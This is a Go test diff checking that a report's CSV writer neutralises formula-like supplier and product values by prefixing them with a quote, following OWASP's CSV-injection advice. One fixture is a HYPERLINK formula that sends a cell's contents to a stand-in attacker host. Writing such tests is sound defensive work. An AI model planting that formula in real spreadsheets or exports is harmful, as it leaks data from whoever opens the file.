@@ -189,3 +189,48 @@ func emptyReport(t *testing.T) Report {
 	require.NoError(t, err)
 	return r
 }
+
+// Ids and names come from data: one that begins like a formula must reach
+// a spreadsheet as text (OWASP's CSV injection rule), while the figures the
+// report formats itself stay figures.
+func TestCSVNeutralisesFormulasFromData(t *testing.T) {
+	r := sample(t)
+	r.TopSuppliers = []TopSupplier{
+		{Currency: "USD", SupplierID: "=SUP", SupplierName: `=HYPERLINK("https://evil.example/?x="&A1,"Click")`, OpenCount: 1, Units: 3, RevenueAtRisk: "10.00"},
+		{Currency: "USD", SupplierID: "@SUP", SupplierName: "+1 Parts", OpenCount: 1, Units: 1, RevenueAtRisk: "1.00"},
+	}
+	r.TopSKUs = []TopSKU{
+		{Currency: "USD", SKU: "-SKU", ProductName: "\tTabbed", OpenCount: 1, Units: 3, RevenueAtRisk: "10.00"},
+		{Currency: "USD", SKU: "SKU-2", ProductName: "\rReturn", OpenCount: 1, Units: 2, RevenueAtRisk: "2.00"},
+	}
+	r.OpenTasks = []RoleTasks{{Role: "procurement_manager", Count: 1, OldestAgeDays: 1.5}}
+	r.Trend[0].MedianDaysToResolution = nil
+	var b bytes.Buffer
+	require.NoError(t, WriteCSV(&b, r))
+	rows, err := csv.NewReader(&b).ReadAll()
+	require.NoError(t, err)
+	var items, names []string
+	for _, row := range rows[1:] {
+		if row[0] == "top_suppliers" || row[0] == "top_skus" {
+			if row[3] == "supplier_name" || row[3] == "product_name" {
+				items = append(items, row[1])
+				names = append(names, row[4])
+			}
+			if row[3] == "revenue_at_risk" {
+				assert.NotContains(t, row[4], "'", "amounts stay numbers")
+			}
+		}
+	}
+	assert.Equal(t, []string{"'=SUP", "'@SUP", "'-SKU", "SKU-2"}, items)
+	assert.Equal(t, []string{`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "'+1 Parts", "'\tTabbed", "'\rReturn"}, names)
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && !strings.HasPrefix(cell, "'") {
+				assert.NotContains(t, "=+@\t\r", cell[:1], "no cell may begin like a formula: %q", row)
+				if cell[0] == '-' {
+					t.Errorf("a cell beginning with '-' that is not the report's own figure: %q", row)
+				}
+			}
+		}
+	}
+}
